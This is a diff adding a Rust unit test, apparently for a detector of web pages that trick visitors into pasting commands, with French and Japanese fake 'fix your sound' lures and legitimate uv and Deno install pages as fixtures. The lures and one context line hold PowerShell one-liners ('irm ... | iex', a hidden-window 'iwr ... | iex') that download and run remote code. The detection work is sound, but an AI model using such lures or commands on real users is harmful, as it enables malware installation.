@@ -3949,6 +3949,51 @@ mod tests {
     }
 
     #[test]
+    fn review45_h6_admin_shell_steps_in_french_and_japanese() {
+        // A "how to fix" article that names PowerShell as Windows' menu does in French and
+        // Japanese ("PowerShell (administrateur)", "PowerShell（管理者）" with no space) and
+        // copies a script from another site: the run step en/de/es already read.
+        for (url, text, clip) in [
+            (
+                "https://aide-pilote-0193.example/",
+                "Réparer le son qui ne marche plus. Solution rapide : ouvrez PowerShell \
+                 (administrateur), collez la commande ci-dessous puis appuyez sur Entrée.",
+                "irm https://0193-pilotes.top/a | iex",
+            ),
+            (
+                "https://drv-help-0194.example/",
+                "音が出ない問題の修正方法。PowerShell（管理者）を開き、次のコマンドを貼り付けて \
+                 Enter を押してください。",
+                "irm https://0194-drv.top/a | iex",
+            ),
+            (
+                "https://aide-pilote-0195.example/",
+                "Clic droit sur Démarrer, choisissez Terminal (administrateur), collez et validez.",
+                "irm https://0195-pilotes.top/a | iex",
+            ),
+        ] {
+            assert!(on(url, &[text, &format!("{clip}\nCopier")], clip), "{text}");
+        }
+        // A real tool's install page saying the same with its own command shown stays silent.
+        for (url, text, clip) in [
+            (
+                "https://docs.astral.sh/uv/getting-started/installation/",
+                "Installation sur Windows : ouvrez PowerShell (administrateur) et collez la \
+                 commande d'installation, puis appuyez sur Entrée.",
+                "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"",
+            ),
+            (
+                "https://docs.deno.com/runtime/getting_started/installation/",
+                "Windows へのインストール：PowerShell（管理者）を開き、次のインストールコマンドを\
+                 貼り付けて Enter を押します。",
+                "irm https://deno.land/install.ps1 | iex",
+            ),
+        ] {
+            assert!(!on(url, &[text, &format!("{clip}\nコピー")], clip), "{text}");
+        }
+    }
+
+    #[test]
     fn the_windows_key_however_it_is_named() {
         let clip = "powershell -w h -c \"iwr http://203.0.113.61/k|iex\"";
         let story = "Something went wrong while loading this page.";
